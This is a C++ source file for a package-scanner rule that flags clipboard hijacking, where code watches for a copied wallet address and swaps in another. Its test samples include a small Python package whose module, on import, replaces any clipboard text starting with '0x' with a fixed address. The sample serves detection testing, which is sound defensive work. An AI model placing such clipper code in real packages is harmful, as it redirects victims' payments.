#include "rules/conditions.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

bool reads_clipboard(const Action& action) {
  return action.data.has(Source::clipboard) || action.target_from.has(Source::clipboard);
}

void check(const Facts& facts, Findings& findings) {
  const Beside readers(facts, reads_clipboard);
  for (const Action& action : facts.actions) {
    if (action.act != Act::write_clipboard || !is_shipped(action)) continue;
    // What a caller gives to be copied is a library's business.
    if (action.data.has(Source::argument)) continue;
    if (readers(action) == nullptr) continue;
    const bool is_fixed = !action.data_text.empty() || action.data.any(foreign | undone);
    Severity severity = runs_uncalled(action) ? Severity::high : Severity::low;
    if (is_fixed) severity = runs_uncalled(action) ? Severity::critical : Severity::high;
    findings.add(
        severity, action.where,
        sentence("replaces what is in the clipboard with \"" + shown(action.data_text, 60) + "\"",
                 action),
        action.steps);
  }
}

}  // namespace

extern constinit const Rule hijacks_clipboard = {
    .id = "hijacks-clipboard",
    .title = "The package watches the clipboard and replaces what is in it",
    .why =
        "Clippers wait for a wallet address to be copied and put the thief's in its place, so "
        "that the victim pays the thief.",
    .harmless_when = "A clipboard manager changes text as its user set it up.",
    .severity = Severity::critical,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "a module swaps addresses", .expect = "widget/__init__.py:5", .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
import pyperclip
for attempt in range(3):
    text = pyperclip.paste()
    if text.startswith("0x"):
        pyperclip.copy("0x0000000000000000000000000000000000000000")
)"},
    {.name = "a library copies what it is given", .expect = silent, .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
import pyperclip
def put(text):
    pyperclip.copy(text)
)"},
};
extern const std::span<const Sample> hijacks_clipboard_samples = samples;
#endif

}  // namespace assay::rules
